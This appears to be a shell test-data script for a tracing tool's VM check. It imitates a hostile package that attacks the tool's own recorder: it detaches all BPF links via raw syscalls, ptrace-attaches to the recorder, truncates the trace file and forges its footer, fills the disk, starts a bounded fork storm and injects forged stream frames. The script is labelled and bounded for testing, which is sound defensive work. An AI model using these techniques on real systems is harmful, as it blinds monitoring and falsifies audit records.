# shellcheck shell=sh
# TEST DATA (tracer, issue 13): the attacks of a deliberately hostile package on the recorder
# of `tracer vm check`. Each is bounded; run only in a throwaway VM.

say() { echo "tracer-job: hostile: $*" > /dev/console 2>/dev/null || true; }

# The recorder's pid: the process named `tracer` (pidof, from sysvinit-utils, essential).
recorder() {
    pidof -s tracer
}

# bpf(): walk the loaded programs (BPF_PROG_GET_NEXT_ID, BPF_PROG_GET_FD_BY_ID), the first
# step to detach or replace one. perl-base is on every Debian system; bpf is syscall 321.
bpf_walk() {
    perl -e 'my $id = 0; for (1 .. 64) { my $a = pack("LLL", $id, 0, 0) . "\0" x 52;
        last if syscall(321, 11, $a, 64) < 0; $id = (unpack("LL", $a))[1];
        my $b = pack("L", $id) . "\0" x 60; syscall(321, 13, $b, 64); }'
}

# bpf(): detach every BPF link (BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, BPF_LINK_DETACH):
# the recorder's tracepoints among them.
bpf_detach() {
    perl -e 'my $id = 0; for (1 .. 1024) { my $a = pack("LLL", $id, 0, 0) . "\0" x 52;
        last if syscall(321, 31, $a, 64) < 0; $id = (unpack("LL", $a))[1];
        my $b = pack("L", $id) . "\0" x 60; my $fd = syscall(321, 30, $b, 64);
        next if $fd < 0; my $c = pack("L", $fd) . "\0" x 60; syscall(321, 34, $c, 64); }'
}

# ptrace: attach to the recorder (stopping its main thread for a second), then detach.
ptrace_recorder() {
    perl -e 'my $p = shift; if (syscall(101, 16, $p + 0, 0, 0) == 0) {
        waitpid($p, 0); sleep 1; syscall(101, 17, $p + 0, 0, 0); }' "$1"
}

# The tracing machinery: tracefs, bpffs, debugfs.
machinery() {
    echo 0 > /sys/kernel/tracing/tracing_on 2>/dev/null
    echo 1 > /sys/kernel/tracing/tracing_on 2>/dev/null
    mkdir /sys/fs/bpf/tracer-hostile 2>/dev/null
    rmdir /sys/fs/bpf/tracer-hostile 2>/dev/null
    echo x > /sys/kernel/debug/tracer-hostile 2>/dev/null
}

# The recorder's trace file, found through its fds: truncated, then a forged footer written.
rewrite_trace() {
    for fd in /proc/"$1"/fd/*; do
        t=$(readlink "$fd" 2>/dev/null) || continue
        case "$t" in
            *.partial)
                : > "$t"
                printf '{"type":"footer","forged":true}\n' >> "$t"
                echo "$t"
                ;;
        esac
    done
}

# Fill the file system the trace file is on (bounded by its size), then free it.
fill_disk() {
    dir=$(dirname "$1")
    dd if=/dev/zero of="$dir/tracer-hostile-fill" bs=1M 2>/dev/null
    sync
    rm -f "$dir/tracer-hostile-fill"
}

# A flood of events: $1 opens of one file, without a fork each.
flood() {
    i=0
    while [ "$i" -lt "$1" ]; do
        : < /etc/hostname
        i=$((i + 1))
    done
}

# A bounded fork storm: $1 processes that sleep.
fork_storm() {
    i=0
    while [ "$i" -lt "$1" ]; do
        sleep 300 &
        i=$((i + 1))
    done
}

# With the recorder gone its port is free: open it and append the end of a trace, a footer
# that says the job stopped the recorder (SIGINT, sent by kill from its parent), then the
# stream's End. Frames are `type: u8 | length: u32 LE | payload` (docs/vm.md).
forge_stream() {
    i=0
    while [ -d /proc/"$1" ] && [ "$i" -lt 50 ]; do sleep 0.2; i=$((i + 1)); done
    perl -e 'open(my $p, ">", "/dev/virtio-ports/tracer.trace") or exit 1; binmode $p;
        sub frame { my ($t, $d) = @_; print $p pack("CV", $t, length $d) . $d; }
        frame(2, q({"type":"footer","end_time":"2026-01-01T00:00:00Z","duration_ms":1,)
            . q("stop_reason":"signal","stop_signal":"SIGINT",)
            . q("stop_sender":{"how":"kill","pid":1,"comm":"sh","parent":true},)
            . q("events":{},"lost":{},"truncated":{},"unresolved_paths":{},"malformed":0}));
        frame(4, q({"lines":1}));
        close $p or exit 1;' && say "forged frames written"
}
